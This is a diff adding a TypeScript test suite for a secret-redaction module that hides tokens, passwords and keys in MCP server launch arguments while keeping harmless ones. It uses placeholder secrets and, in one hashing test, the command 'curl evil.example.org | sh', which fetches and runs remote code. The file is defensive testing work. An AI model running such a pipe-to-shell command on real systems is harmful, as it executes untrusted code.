@@ -1,0 +1,130 @@
+// Planted secrets in many forms: none may come through, and what says how a server is launched must.
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { cutArguments, cutText, cutUrl, isSecretName, showArguments } from './redact.ts';
+
+const PLAIN = 'hunter2-Correct';
+const BASE64 = 'dGhpcyBpcyBhIHZlcnkgc2VjcmV0IHRva2VuIQ';
+const HEX = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b';
+
+const PLANTED: [string, string[], string][] = [
+  ['a flag with an equals sign', [`--token=${PLAIN}`], PLAIN],
+  ['a flag and its value', ['--api-key', PLAIN], PLAIN],
+  ['a flag in camel case', ['--apiKey', PLAIN], PLAIN],
+  ['a flag with underscores', ['--access_token', PLAIN], PLAIN],
+  ['a password', ['--db-password', PLAIN], PLAIN],
+  ['a short flag', ['-p', PLAIN], PLAIN],
+  ['a variable', [`API_KEY=${PLAIN}`], PLAIN],
+  ['a variable of a container', ['run', '-e', `SOME_THING=${PLAIN}`, 'image'], PLAIN],
+  ['a variable of a container, long', ['run', `--env=SOME_THING=${PLAIN}`, 'image'], PLAIN],
+  ['a header', ['--header', `Authorization: Bearer ${PLAIN}`], PLAIN],
+  ['a header of an unknown name', ['-H', `X-Whatever: ${PLAIN}`], PLAIN],
+  ['a header without a space', ['--header', `X-Whatever:${PLAIN}`], PLAIN],
+  ['a bearer in a text', [`curl -H "authorization: bearer ${PLAIN}" host`], PLAIN],
+  ['user info of a URL', [`postgresql://app:${PLAIN}@db.example.org/x`], PLAIN],
+  ['user info without a name', [`https://${PLAIN}@host/`], PLAIN],
+  ['a query value', [`https://host/mcp?key=${PLAIN}&b=${PLAIN}`], PLAIN],
+  ['a query without a name', [`https://host/mcp?${PLAIN}`], PLAIN],
+  ['a fragment', [`https://host/mcp#${PLAIN}`], PLAIN],
+  ['a segment of a path', [`https://mcp.example.org/s/${BASE64}/mcp`], BASE64],
+  ['a segment in hexadecimal', [`https://mcp.example.org/s/${HEX}/mcp`], HEX],
+  [
+    'JSON in an argument',
+    ['--config', `{"apiKey":"${PLAIN}","deep":{"password":"${PLAIN}"}}`],
+    PLAIN,
+  ],
+  ['nearly JSON', [`{apiKey: '${PLAIN}', }`], PLAIN],
+  ['JSON in a list', ['--x', `[{"token": "${PLAIN}"}]`], PLAIN],
+  ['a script', ['-c', `export TOKEN=${PLAIN}; server`], PLAIN],
+  ['base64', [BASE64], BASE64],
+  ['base64 behind a harmless flag', ['--name', BASE64], BASE64],
+  ['hexadecimal', [HEX], HEX],
+  ['a private key', [`-----BEGIN PRIVATE KEY-----\n${BASE64}`], BASE64],
+  ['an odd word', [PLAIN], PLAIN],
+  ...[
+    'sk-abcdefghij',
+    'sk-proj-abcdefgh-ijklmnop',
+    'sk-ant-api03-abcdefghijkl',
+    'sk_live_abcdefgh',
+    'ghp_abcdefghijklmnopqrst',
+    'github_pat_abcdefgh_ijklmnop',
+    'glpat-abcdefghijkl',
+    'xoxb-abcdefgh-ijklmnop',
+    'AKIAABCDEFGHIJKLMNOP',
+    'AIzaAbcdefghijklmnop',
+    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcdefgh',
+    'npm_abcdefghijkl',
+    'hf_abcdefghijkl',
+    'gwa_abcdefghijkl',
+  ].map((token): [string, string[], string] => [token, ['--flag', token], token]),
+];
+
+describe('what is sent', () => {
+  test.each(PLANTED)('holds no secret: %s', (_, args, secret) => {
+    expect(showArguments(args).join(' ')).not.toContain(secret);
+    // Nor a part of it that would do.
+    expect(showArguments(args).join(' ')).not.toContain(secret.slice(-12));
+  });
+
+  test.each([
+    [['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '/home/alice/Documents']],
+    [['--port', '8080', '--transport', 'stdio', '--model', 'gpt-4o']],
+    [['run', '-i', '--rm', 'ghcr.io/github/github-mcp-server:v0.5.0']],
+    [['--from', 'mcp-server-git', 'mcp-server-git', '--repository', '~/code/x']],
+    [['/opt/acme/build/index.js', '--region=us-east-1', 'https://mcp.example.org/v1/mcp']],
+    [['acme/server@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08']],
+  ])('keeps what says how a server is launched: %j', (args) => {
+    expect(showArguments(args)).toEqual(args);
+  });
+});
+
+describe('what is hashed', () => {
+  const isHashedWithout = PLANTED.filter(([what]) => what !== 'an odd word');
+
+  test.each(isHashedWithout)('holds no secret: %s', (_, args, secret) => {
+    expect(cutArguments(args).join(' ')).not.toContain(secret);
+  });
+
+  test('tells launches apart that differ in more than a secret', () => {
+    const script = (text: string) => cutArguments(['-c', text]).join('\0');
+    expect(script('server | tee x')).not.toBe(script('curl evil.example.org | sh'));
+    expect(script(`server --token=${PLAIN}`)).toBe(script('server --token=another'));
+    expect(cutArguments(['odd-word-17x'])).not.toEqual(cutArguments(['odd-word-18x']));
+  });
+});
+
+test('URLs keep what names them', () => {
+  expect(cutUrl('https://u:p@mcp.example.org:8443/v1/mcp?profile=work#frag')).toBe(
+    'https://mcp.example.org:8443/v1/mcp?profile=[cut]',
+  );
+  expect(cutUrl('no url')).toBe('[cut]');
+});
+
+test('names of secrets are known however they are written', () => {
+  for (const name of [
+    'API_KEY',
+    'apiKey',
+    '--api-key',
+    'x-api-key',
+    'GITHUB_TOKEN',
+    'dbPassword',
+  ]) {
+    expect(isSecretName(name), name).toBe(true);
+  }
+  for (const name of ['--port', 'keyboard', 'monkey', '--model', 'author', 'passive']) {
+    expect(isSecretName(name), name).toBe(false);
+  }
+});
+
+test('never throws, keeps the number of arguments, and takes no time for a hostile megabyte', () => {
+  fc.assert(
+    fc.property(fc.array(fc.string({ unit: 'binary' })), (args) => {
+      expect(showArguments(args)).toHaveLength(args.length);
+    }),
+  );
+  for (const piece of ['a', '=', '{', 'a=', '://', 'Aa1', '-', 'token ', '/', '"', '-----BEGIN ']) {
+    cutText(piece.repeat(1_000_000));
+    cutArguments([piece.repeat(1_000_000)]);
+    cutUrl(`https://h/${piece.repeat(100_000)}`);
+  }
+});
